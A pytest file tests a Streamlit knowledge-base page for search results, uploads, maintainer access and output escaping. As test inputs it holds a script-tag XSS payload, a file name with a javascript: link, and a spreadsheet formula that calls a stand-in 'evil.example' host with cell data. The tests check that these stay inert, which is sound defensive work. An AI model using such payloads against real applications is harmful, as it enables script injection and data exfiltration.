"""The page (the script `app.py` serves), driven by `streamlit.testing.v1.AppTest` over a real KB.

The KB is the session's real one (`real_kb` in tests/conftest.py: the bundled MiniLM, untrained,
over a copy of data/docs) plus one document that tries to inject a script, built once per
session. The page finds it through KB_DIR, as `streamlit run` would. The page's pure helpers
and the feedback store are in tests/core/test_app.py.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from kb import catalog, feedback
from kb.errors import KBError
from kb.stats import stats
from kb.store import current_version, open_kb
from ui.page import ask as ask_page
from ui.page import html

REPO = Path(__file__).resolve().parents[2]
APP = REPO / "ui" / "page" / "script.py"  # what a session runs (app.py is its server)
# Seconds a script run may take before AppTest gives up: a stop for a hung run, many times what
# a run takes on a busy machine, never a pace the page must keep.
PAGE_TIMEOUT = 900
SITUATION = "our staff resist the new software we bought and keep doing things the old way"
OFF_TOPIC = "what time does the ferry to the island leave on sundays"
SCRIPT = "<script>alert(1)</script>"
MARKDOWN_NAME = "**bold** :red[red] $x^2$ [link](javascript:alert(1)).md"
HOSTILE = f"""Skip to main content

Fundamentals

Stock counting {SCRIPT} is the simplest control a small shop has. A shop that counts its stock \
every week sees shortages before its customers do, and the habit costs about an hour.

Practical Steps for Weekly Stock Counts

  • Weekly Stock Count {SCRIPT} This is a simple routine: count the shelves and the storeroom \
every Monday and compare the numbers with the till records, so that theft, breakage and data \
errors show up early.
  • Reorder Points This sets a minimum quantity for each item, so that reordering starts \
before the shelf is empty and no customer leaves without the product.

Summary: count your stock weekly and set reorder points.
"""
NEW_DOC = """# Pricing for Small Service Firms

## Fundamentals

A small service firm sets its prices from what its customers value, not only from its costs.

- Value-Based Pricing: Price the outcome the customer gets, such as hours saved or problems
  avoided, and review the price every year with a few loyal customers.
- Cost-Plus Pricing: Add a fixed margin to the cost of delivering the service; simple, but it
  leaves money on the table when the service is worth much more than it costs.
"""


# --------------------------------------------------------------------------- the page


@pytest.fixture(scope="session")
def app_kb(real_kb, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The session KB plus a document whose text carries a script tag."""
    from ui.build import ingest

    root = tmp_path_factory.mktemp("app")
    kb_dir = real_kb.copy_to(root / "kb")
    extra = root / "extra"
    extra.mkdir()
    (extra / "stock-counting.txt").write_text(HOSTILE, encoding="utf-8")
    report = ingest([real_kb.docs, extra], kb_dir)
    assert report.added == [str(extra / "stock-counting.txt")], report
    return kb_dir


@pytest.fixture
def app(app_kb: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> AppTest:
    monkeypatch.setenv("KB_DIR", str(app_kb))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "no-docs-here"))
    return AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)


SECRET = "a maintainer's long secret"


def as_maintainer(at: AppTest, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    """The Documents view of the maintainer's page (`make maintain`: KB_MAINTAINER=1, on
    127.0.0.1 by config.toml), unlocked with the secret the server was started with."""
    monkeypatch.setenv("KB_MAINTAINER", "1")
    monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
    at.query_params["view"] = "documents"
    run(at)
    at.text_input(key="maintainer_secret").input(SECRET)
    return run(at)


def run(at: AppTest) -> AppTest:
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def html_values(at: AppTest) -> list[str]:
    return [h.value for h in at.html]


def card_titles(at: AppTest) -> list[str]:
    """Card titles, in page order, as the browser would show them (entities decoded)."""
    from html import unescape

    found = []
    for value in html_values(at):
        found += re.findall(r'<span class="rec-title">(.*?)</span>', value)
    return [unescape(t) for t in found]


def ask(at: AppTest, text: str) -> AppTest:
    run(at)
    at.text_area(key="situation").input(text)
    at.button(key="ask_submit").click()
    return run(at)


def test_a_situation_shows_cards_best_first(app: AppTest):
    at = ask(app, SITUATION)
    titles = card_titles(at)
    assert 3 <= len(titles) <= 5
    ranks = [int(r) for v in html_values(at) for r in re.findall(r'rec-rank">(\d+)<', v)]
    assert ranks == list(range(1, len(titles) + 1))
    summary = f"{len(titles)} recommendations for “{SITUATION}”, best first"
    assert any(f'<p class="summary">{summary}</p>' == v for v in html_values(at))
    # "Start here" opens the answer, citing the cards; each source is named by its own
    # heading and first words, so no two look the same.
    assert any('class="start-here"' in v and 'href="#card-' in v for v in html_values(at))
    labels = [e.label for e in at.expander]
    assert labels and all(label.startswith("Source ") for label in labels)
    assert len({label.split(": ", 1)[1] for label in labels}) == len(labels)
    # The query went into the URL, so the result page can be shared.
    assert at.query_params["q"] == SITUATION
    assert not any("Nothing in the library fits" in v for v in html_values(at))


def test_an_off_topic_question_gets_the_abstention_message(app: AppTest):
    at = ask(app, OFF_TOPIC)
    assert card_titles(at) == []
    assert any("Nothing in the library fits this situation yet" in v for v in html_values(at))
    assert any("You could try" in v for v in html_values(at))


def test_the_query_in_the_url_shows_results_without_typing(app: AppTest):
    app.query_params["q"] = SITUATION
    at = run(app)
    assert at.text_area(key="situation").value == SITUATION
    assert len(card_titles(at)) >= 3


def test_the_level_filter_changes_the_results(app: AppTest, app_kb: Path):
    app.query_params["q"] = SITUATION
    at = run(app)
    any_level = card_titles(at)
    at.pills(key="level").set_value("Fundamentals")
    run(at)
    fundamentals = card_titles(at)
    assert fundamentals and fundamentals != any_level
    allowed = {c.title for c in catalog.filter_concepts(open_kb(app_kb), level="Fundamentals")}
    assert set(fundamentals) <= allowed
    assert at.query_params["level"] == "Fundamentals"


def test_a_thumbs_up_is_stored_with_the_query(app: AppTest, app_kb: Path):
    before = len(feedback.votes(app_kb))
    app.query_params["q"] = SITUATION
    at = run(app)
    at.feedback[0].set_value(1)
    run(at)
    stored = feedback.votes(app_kb)
    assert len(stored) == before + 1
    vote = stored[-1]
    assert (vote.query, vote.title, vote.vote) == (SITUATION, card_titles(at)[0], 1)
    assert vote.kb_version == current_version(app_kb)


def test_document_text_with_a_script_tag_is_shown_as_text(app: AppTest):
    at = ask(app, "we never know how much stock is left on the shelves")
    assert "Weekly Stock" in " ".join(card_titles(at))
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert any(escaped in v for v in html_values(at))
    # The page's own scripts (Enter asks, Copy link) are constants: nothing else has one.
    ours = {ask_page.ENTER_ASKS, ask_page.COPY_LINK}
    assert ours <= set(html_values(at))
    for value in html_values(at):
        assert value in ours or "<script" not in value.lower()
    for md in [*at.markdown, *at.caption]:
        assert "<script" not in md.value.lower()
    # The catalog's detail view escapes it too: open the card in Frameworks.
    card = next(i for i, t in enumerate(card_titles(at)) if "Weekly Stock" in t)
    opens = [b for b in at.button if (b.key or "").startswith("open-")]
    opens[card].click()
    run(at)
    assert at.session_state["view"] == "frameworks"
    assert any('class="detail-title"' in v and escaped in v for v in html_values(at))
    assert not any("<script" in v.lower() for v in html_values(at) if v not in ours)


def test_the_catalog_filters_by_kind_and_finds_by_name(app: AppTest, app_kb: Path):
    run(app)
    app.segmented_control(key="view").set_value("frameworks")
    at = run(app)
    kb = open_kb(app_kb)
    assert len(at.dataframe[0].value) == len(kb.concepts)
    at.selectbox(key="fw_kind").set_value("framework")
    run(at)
    listed = at.dataframe[0].value
    assert set(listed["Kind"]) == {"Framework"}
    assert sorted(listed["Title"]) == sorted(
        c.title for c in catalog.filter_concepts(kb, kind="framework")
    )
    assert at.download_button(key="fw_csv").label == "Download this list (CSV)"
    # Search by name: the detail view shows the framework, with its references in full.
    at.text_input(key="fw_search").input("OKR")
    run(at)
    detail = " ".join(html_values(at))
    assert "Objectives and Key Results (OKRs)" in detail
    assert "Measure What Matters" in detail
    # The comparison table is there, a row per framework of the documents' tables, its cells
    # escaped because st.table reads Markdown.
    assert html.md_escape("Balanced Scorecard (BSC)") in list(at.table[0].value.index)


def test_the_documents_view_shows_the_figures_of_kb_stats(app: AppTest, app_kb: Path):
    app.query_params["view"] = "documents"
    at = run(app)
    figures = stats(open_kb(app_kb))
    assert [(m.label, m.value) for m in at.metric] == [
        ("Version", figures["version"]),
        ("Documents", str(figures["documents"])),
        ("Chunks", str(figures["chunks"])),
        ("Concepts", str(figures["concepts"])),
        ("Glossary terms", str(figures["glossary"])),
    ]
    built = figures["built_at"].replace("T", " ").replace("Z", " UTC")
    assert f"Built {built} with `{figures['model']}` (384 dimensions)" in at.caption[0].value
    assert f"KB folder `{app_kb}`" in at.caption[0].value
    table = at.dataframe[0].value
    assert table["Chunks"].sum() == figures["chunks"]
    assert table["Concepts"].sum() == figures["concepts"]


def library_copy(real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> tuple[Path, Path]:
    """Copies of the session KB and its documents folder, which the page is pointed at."""
    kb_dir = real_kb.copy_to(tmp_path / "kb")
    docs = tmp_path / "docs"
    shutil.copytree(real_kb.docs, docs)
    monkeypatch.setenv("KB_DIR", str(kb_dir))
    monkeypatch.setenv("DOCS_DIR", str(docs))
    return kb_dir, docs


def test_an_upload_is_saved_and_ingested(real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    kb_dir, docs = library_copy(real_kb, monkeypatch, tmp_path)
    before = current_version(kb_dir)
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    assert len(at.dataframe[0].value) == 3
    at.file_uploader[0].set_value(
        [
            ("pricing.md", NEW_DOC.encode(), "text/markdown"),
            ("empty.md", b"   \n", "text/markdown"),
        ]
    )
    run(at)
    at.button(key="reingest").click()
    run(at)
    assert (docs / "pricing.md").read_text(encoding="utf-8") == NEW_DOC
    assert current_version(kb_dir) != before
    table = at.dataframe[0].value
    assert "Pricing for Small Service Firms" in list(table["Title"])
    report = " ".join(m.value for m in at.markdown)
    assert "pricing.md" in report
    assert any("empty.md" in w.value for w in at.warning)  # rejected, with its reason
    # The page serves the new version at once: the new document's advice is found.
    at.segmented_control(key="view").set_value("ask")
    run(at)
    at.text_area(key="situation").input("how should a small service firm set its prices")
    at.button(key="ask_submit").click()
    run(at)
    assert any("Pricing" in t for t in card_titles(at))


def test_an_upload_over_the_size_limit_is_refused_with_a_message(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    kb_dir, docs = library_copy(real_kb, monkeypatch, tmp_path)
    monkeypatch.setenv("KB_MAX_UPLOAD_MB", "1")
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    big = ("# Big\n\n" + "A sentence about pricing for a small firm. " * 30_000).encode()
    at.file_uploader[0].set_value([("big.md", big, "text/markdown")])
    run(at)
    assert any(r"big\.md" in e.value and "limited to 1 MB" in e.value for e in at.error)
    at.button(key="reingest").click()
    run(at)
    assert not (docs / "big.md").exists()


def test_without_a_kb_the_page_says_so_and_a_reingest_builds_one(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    kb_dir = tmp_path / "kb"
    kb_dir.mkdir()
    shutil.copy(real_kb.kb_dir / "embeddings.sqlite", kb_dir)  # the cache only: fast, no KB
    docs = shutil.copytree(real_kb.docs, tmp_path / "docs")
    monkeypatch.setenv("KB_DIR", str(kb_dir))
    monkeypatch.setenv("DOCS_DIR", str(docs))
    at = run(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT))
    assert any("The library is empty" in m.value for m in at.markdown)
    at.button(key="open_documents").click()
    run(at)
    as_maintainer(at, monkeypatch)
    at.button(key="reingest").click()
    run(at)
    assert current_version(kb_dir) is not None
    assert len(at.dataframe[0].value) == 3
    assert any("Published" in s.value for s in at.success)


def test_a_library_of_notes_without_headings_still_works(monkeypatch, tmp_path: Path):
    """Passages but no concepts: every view renders, and a question gets the reason why."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "notes.txt").write_text(
        "We bake bread in the morning and cakes in the afternoon.\n\n"
        "The staff rotate every week, and customers ask for gluten-free loaves more often.\n"
    )
    from ui.build import ingest

    ingest([docs], tmp_path / "kb")
    assert open_kb(tmp_path / "kb").concepts == []
    monkeypatch.setenv("KB_DIR", str(tmp_path / "kb"))
    monkeypatch.setenv("DOCS_DIR", str(docs))
    at = ask(
        AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), "our staff rotate every week"
    )
    assert card_titles(at) == []
    assert any("name no principles or frameworks" in v for v in html_values(at))
    for view in ("frameworks", "documents"):
        at.segmented_control(key="view").set_value(view)
        run(at)


def test_progress_lines_show_a_file_name_as_plain_text(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    """A file name full of markdown must not become a link, red text or maths in the
    "reading ..." lines. The ingest is stopped after its first line, so the lines stay."""
    import ui.page.documents as documents

    def ingest_that_fails(paths, kb_dir, progress, **_):
        progress(f"reading {MARKDOWN_NAME}")
        raise KBError("stopped by the test")

    monkeypatch.setattr(documents, "ingest", ingest_that_fails)
    monkeypatch.setenv("KB_DIR", str(real_kb.copy_to(tmp_path / "kb")))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    at.button(key="reingest").click()
    run(at)
    assert f"reading {MARKDOWN_NAME}" in [t.value for t in at.text]
    assert not any("bold" in m.value for m in at.markdown)


def test_the_public_page_cannot_change_the_library_even_with_the_secret(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    monkeypatch.setenv("KB_DIR", str(real_kb.copy_to(tmp_path / "kb")))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
    monkeypatch.delenv("KB_MAINTAINER", raising=False)
    monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
    at.query_params["view"] = "documents"
    run(at)
    assert any("read-only" in i.value and "make maintain" in i.value for i in at.info)
    assert not at.file_uploader and not [b for b in at.button if b.key == "reingest"]
    assert not [t for t in at.text_input if t.key == "maintainer_secret"]  # nothing to try


def test_the_maintainers_page_needs_its_secret_when_one_is_set(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    monkeypatch.setenv("KB_DIR", str(real_kb.copy_to(tmp_path / "kb")))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
    monkeypatch.setenv("KB_MAINTAINER", "1")
    monkeypatch.delenv("KB_MAINTAINER_SECRET", raising=False)
    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
    at.query_params["view"] = "documents"
    run(at)
    assert at.file_uploader  # the maintainer's own process, on 127.0.0.1: no secret set
    monkeypatch.setenv("KB_MAINTAINER_SECRET", SECRET)
    run(at)
    assert not at.file_uploader  # the secret is set, but this visitor does not know it
    at.text_input(key="maintainer_secret").input("a guess")
    run(at)
    assert any("not the maintainer secret" in e.value for e in at.error)
    assert not at.file_uploader
    at.text_input(key="maintainer_secret").input(SECRET)
    run(at)
    assert at.file_uploader and [b for b in at.button if b.key == "reingest"]


VOTED = '=HYPERLINK("http://evil.example/?"&A1,"our staff hate the new till")'


def test_the_visitors_questions_are_shown_to_the_maintainer_only_and_inert(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    kb_dir = real_kb.copy_to(tmp_path / "kb")
    feedback.record(kb_dir, VOTED, "c", "\r=2+2 a title", feedback.DOWN, current_version(kb_dir))
    monkeypatch.setenv("KB_DIR", str(kb_dir))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
    monkeypatch.delenv("KB_MAINTAINER", raising=False)
    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
    at.query_params["view"] = "documents"
    run(at)
    assert not any("Feedback" in e.label for e in at.expander)
    assert len(at.dataframe) == 1  # the documents only
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    assert any("Feedback from the Ask page: 0 helpful, 1 not" in e.label for e in at.expander)
    votes = at.dataframe[1].value  # what its "Download as CSV" exports
    assert list(votes["query"]) == ["'" + VOTED]
    assert list(votes["title"]) == ["'=2+2 a title"]  # one line: no CR starts a row


def test_a_damaged_votes_file_does_not_break_the_documents_view(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    kb_dir = real_kb.copy_to(tmp_path / "kb")
    (kb_dir / feedback.FILE).write_bytes(b"no database here" * 100)
    monkeypatch.setenv("KB_DIR", str(kb_dir))
    monkeypatch.setenv("DOCS_DIR", str(tmp_path / "docs"))
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    assert any("cannot be used" in w.value for w in at.warning)
    assert len(at.dataframe[0].value) == 3  # the library is still listed


def test_a_rerun_of_the_same_question_does_not_rank_again(app: AppTest, monkeypatch):
    """A thumb, a button or a second visitor reruns the page: the answer comes from the
    cache of answers per KB version, question and filters."""
    from recommender import Recommender

    calls = []
    real = Recommender.recommend

    def counting(self, *args, **kwargs):
        calls.append(args)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Recommender, "recommend", counting)
    query = "the night shift at our bakery skips the new checklist app"
    at = ask(app, query)
    titles = card_titles(at)
    assert titles and len(calls) == 1
    run(at)  # what a click on a thumb or a button does
    again = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
    again.query_params["q"] = query  # another visitor, same question
    run(again)
    assert card_titles(at) == card_titles(again) == titles
    assert len(calls) == 1


# --------------------------------------------------------------------------- Back, recent, levels

OTHER = "we never know how much stock is left on the shelves"


def test_after_back_the_box_shows_the_question_the_results_answer(app: AppTest):
    """Back or Forward change only the URL: the box follows it, as the results do, and so do
    the filters."""
    at = ask(app, SITUATION)
    at.pills(key="level").set_value("Fundamentals")
    run(at)
    ask(at, OTHER)
    assert at.query_params["q"] == OTHER
    # Back: the browser puts the earlier URL back and reruns the page.
    at.query_params["q"] = SITUATION
    at.query_params["level"] = "Fundamentals"
    run(at)
    assert at.text_area(key="situation").value == SITUATION
    assert at.pills(key="level").value == "Fundamentals"
    summary = " ".join(v for v in html_values(at) if 'class="summary"' in v)
    assert SITUATION in summary and OTHER not in summary
    # Forward again, to a URL without the level.
    at.query_params["q"] = OTHER
    del at.query_params["level"]
    run(at)
    assert at.text_area(key="situation").value == OTHER
    assert at.pills(key="level").value == "any"


def recent(at: AppTest) -> list[str]:
    """The recent questions listed, whole (a button's label is cut at 70 characters; its
    tooltip has it all)."""
    listed = [b for b in at.button if (b.key or "").startswith("recent-")]
    for b in listed:
        assert len(b.label) <= 71 and b.help.startswith(b.label.rstrip("…"))
    return [b.help for b in listed]


def test_the_last_questions_are_listed_and_asked_again_on_a_click(app: AppTest):
    at = ask(app, SITUATION)
    assert recent(at) == []  # the current question is not listed
    ask(at, OTHER)
    assert recent(at) == [html.md_escape(SITUATION)]
    questions = [f"question number {n} about our shop's stock and staff" for n in range(6)]
    for q in questions:
        ask(at, q)
    # The five before the current one, newest first, each once.
    assert recent(at) == [html.md_escape(q) for q in reversed(questions[:-1])]
    at.button(key="recent-4").click()
    run(at)
    assert at.query_params["q"] == questions[0]
    assert at.text_area(key="situation").value == questions[0]
    assert recent(at)[0] == html.md_escape(questions[-1])


def test_a_level_filter_keeps_the_documents_that_have_no_levels(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    """Documents that name no level (notes, an uploaded file without level headings) read
    "no levels" and stay listed whatever level is chosen; the others are filtered."""
    from ui.build import ingest

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "pricing.md").write_text(NEW_DOC, encoding="utf-8")
    (docs / "growth.md").write_text(
        NEW_DOC.replace("Pricing for Small Service Firms", "Growing a Service Firm").replace(
            "## Fundamentals", "## Advanced"
        ),
        encoding="utf-8",
    )
    (docs / "notes.txt").write_text(
        "We bake bread in the morning and cakes in the afternoon.\n\n"
        "The staff rotate every week, and customers ask for gluten-free loaves more often.\n",
        encoding="utf-8",
    )
    ingest([docs], tmp_path / "kb")
    levels = {d.title: d.levels for d in open_kb(tmp_path / "kb").documents}
    assert sorted(map(tuple, levels.values())) == [(), ("Advanced",), ("Fundamentals",)], levels
    notes = next(title for title, lv in levels.items() if not lv)
    monkeypatch.setenv("KB_DIR", str(tmp_path / "kb"))
    monkeypatch.setenv("DOCS_DIR", str(docs))
    at = AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT)
    at.query_params["view"] = "documents"
    run(at)

    def rows() -> dict[str, str]:
        table = at.dataframe[0].value
        return dict(zip(table["Title"], table["Levels"]))

    assert rows() == {
        "Pricing for Small Service Firms": "Fundamentals",
        "Growing a Service Firm": "Advanced",
        notes: "no levels",
    }
    at.pills(key="docs_level").set_value("Advanced")
    run(at)
    assert rows() == {"Growing a Service Firm": "Advanced", notes: "no levels"}
    assert any("2 of 3 documents" in c.value and "1 without levels" in c.value for c in at.caption)
    at.pills(key="docs_level").set_value("Fundamentals")
    run(at)
    assert rows() == {"Pricing for Small Service Firms": "Fundamentals", notes: "no levels"}


# --------------------------------------------------------------------------- no traceback, ever


def test_comparison_tables_with_different_columns_show_as_one(app: AppTest, monkeypatch):
    """Two documents' comparison tables with different columns leave gaps (NaN, a float that
    used to crash the view for every visitor): a gap is an empty cell."""
    import pandas as pd

    table = pd.DataFrame(
        [
            {"Framework": "OKRs", "Core Focus": "Goals", "Level": "", "Document": "d"},
            {"Framework": "=1+1 Lean", "Key Benefits": "Less waste", "Level": "", "Document": "d"},
        ]
    )
    assert table.isna().any().any()
    monkeypatch.setattr(catalog, "framework_table", lambda kb: table)
    app.query_params["view"] = "frameworks"
    at = run(app)
    shown = at.table[0].value
    assert list(shown.index) == ["OKRs", html.md_escape("=1+1 Lean")]
    assert shown.loc["OKRs", html.md_escape("Key Benefits")] == ""
    assert at.download_button(key="fw_compare_csv").label == "Download the comparison (CSV)"


def test_a_failing_view_shows_a_short_message_and_no_trace(app: AppTest, monkeypatch):
    def broken(kb):
        raise AttributeError("'float' object has no attribute 'split' in /srv/secret/catalog.py")

    monkeypatch.setattr(catalog, "framework_table", broken)
    app.query_params["view"] = "frameworks"
    at = app.run()
    assert not at.exception
    assert any("Something went wrong" in e.value for e in at.error)
    everything = " ".join(str(e.value) for e in [*at.error, *at.markdown, *at.caption])
    assert "/srv/secret" not in everything and "float" not in everything


def test_a_reingest_that_would_replace_most_of_the_library_waits_for_the_maintainers_yes(
    real_kb, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    from kb.store import open_kb

    kb_dir, docs = library_copy(real_kb, monkeypatch, tmp_path)
    at = as_maintainer(AppTest.from_file(str(APP), default_timeout=PAGE_TIMEOUT), monkeypatch)
    at.button(key="reingest").click()  # the KB's documents are now this folder's copies
    run(at)
    before = open_kb(kb_dir).version
    # every document rewritten as one short note: most of the library's text would go
    short = [
        (p.name, b"# Note\n\nOnly a short note now.\n", "text/plain") for p in docs.glob("*.txt")
    ]
    at.file_uploader[0].set_value(short)
    at.button(key="reingest").click()
    run(at)
    assert any("nothing was changed" in e.value for e in at.error)
    assert any("Allow replacing most of the library" in c.value for c in at.caption)
    assert open_kb(kb_dir).version == before  # nothing changed
    at.toggle(key="confirm").set_value(True)
    at.button(key="reingest").click()
    run(at)
    assert open_kb(kb_dir).version != before
